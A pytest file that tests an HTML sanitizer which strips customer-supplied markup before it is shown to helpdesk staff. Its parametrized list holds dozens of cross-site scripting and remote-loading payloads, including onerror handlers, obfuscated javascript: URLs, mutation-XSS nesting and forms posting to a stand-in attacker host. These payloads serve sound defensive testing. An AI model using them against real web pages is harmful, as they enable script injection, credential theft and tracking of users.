"""The nh3 allow-list: what customer HTML may keep on a staff page."""

from __future__ import annotations

import re

import pytest

from avgdesk.web.sanitize import sanitize_html

PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhK"
    "mMIQAAAABJRU5ErkJggg=="
)


def _no_remote(html: str) -> None:
    assert "evil" not in html
    assert not re.search(r"\bon\w+\s*=", html, re.I)
    assert "javascript" not in html.lower()


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='http://evil.invalid/p.png'>",
        "<img src='//evil.invalid/p.png'>",
        "<img src='cid:part1@evil'>",
        "<img srcset='http://evil.invalid/a.png 1x, http://evil.invalid/b.png 2x'>",
        "<picture><source srcset='http://evil.invalid/s.png'></picture>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='jav&#x09;ascript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<style>body{background:url(http://evil.invalid/bg.png)}</style>",
        "<link rel=stylesheet href=http://evil.invalid/s.css>",
        "<div style='background:url(http://evil.invalid/d.png)'>x</div>",
        "<p style='behavior:url(evil.htc)'>x</p>",
        "<base href='http://evil.invalid/'>",
        "<meta http-equiv='refresh' content='0;url=http://evil.invalid/'>",
        "<svg onload=alert(1)><image href='http://evil.invalid/i.png'/></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src='http://evil.invalid/'></iframe>",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
        "<object data='http://evil.invalid/o'></object><embed src='http://evil.invalid/e'>",
        "<form action='http://evil.invalid/'><input name=pw><button formaction='http://evil.invalid'>",
        "<video poster='http://evil.invalid/p.png' src='http://evil.invalid/v.mp4'></video>",
        "<audio src='http://evil.invalid/a.mp3'></audio>",
        "<table background='http://evil.invalid/t.png'><tr><td background='http://evil.invalid/c.png'>x</td></tr></table>",
        "<body onload=alert(1) background='http://evil.invalid/b.png'>",
        "<details open ontoggle=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<a href='http://evil.invalid/' ping='http://evil.invalid/ping'>x</a>".replace(
            "http://evil.invalid/'", "https://ok.example/'"
        ),
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
        "<div id='csrf_token' name='csrf_token' class='notice'>x</div><form id=evil></form>",
    ],
)
def test_hostile_markup_is_neutralised(markup: str) -> None:
    out = sanitize_html(markup)
    _no_remote(out)
    for tag in (
        "<script",
        "<style",
        "<link",
        "<base",
        "<meta",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<svg",
        "<math",
        "<video",
        "<audio",
        "<input",
        "<source",
    ):
        assert tag not in out.lower(), (markup, out)
    for attr in ("style=", "srcset=", "ping=", "background=", " id=", " name=", " class="):
        assert attr not in out.lower(), (markup, out)


def test_harmless_structure_and_safe_links_survive_marked() -> None:
    out = sanitize_html(
        "<h1>Hallo</h1><p>Mijn <b>vraag</b>:</p><ul><li>een</li></ul>"
        "<table><tr><td colspan=2>cel</td></tr></table>"
        "<a href='https://example.nl/x' target='_blank'>site</a> <a href='mailto:a@example.nl'>mail</a>"
    )
    assert "<h1>Hallo</h1>" in out and "<b>vraag</b>" in out and "<li>een</li>" in out
    assert 'colspan="2"' in out
    assert '<a href="https://example.nl/x" rel="noopener noreferrer nofollow">site</a>' in out
    assert 'href="mailto:a@example.nl"' in out
    assert "target" not in out


def test_relative_links_do_not_point_into_the_staff_ui() -> None:
    out = sanitize_html("<a href='/users'>beheer</a><a href='../cases'>x</a>")
    assert "href" not in out


def test_inline_raster_images_are_kept_svg_and_remote_are_dropped() -> None:
    out = sanitize_html(f"<img src='{PNG}' alt='logo' width=10 height='10%'>")
    assert PNG in out and 'alt="logo"' in out
    assert "src" not in sanitize_html("<img src='data:image/svg+xml,<svg onload=alert(1)>'>")
    assert "src" not in sanitize_html("<img src='https://tracker.example/p.gif'>")
    assert "width" not in sanitize_html("<img alt=x width='expression(alert(1))'>")


def test_script_content_is_removed_not_shown_as_text() -> None:
    assert sanitize_html("<p>a</p><script>var secret = 1;</script><style>.x{}</style>") == "<p>a</p>"
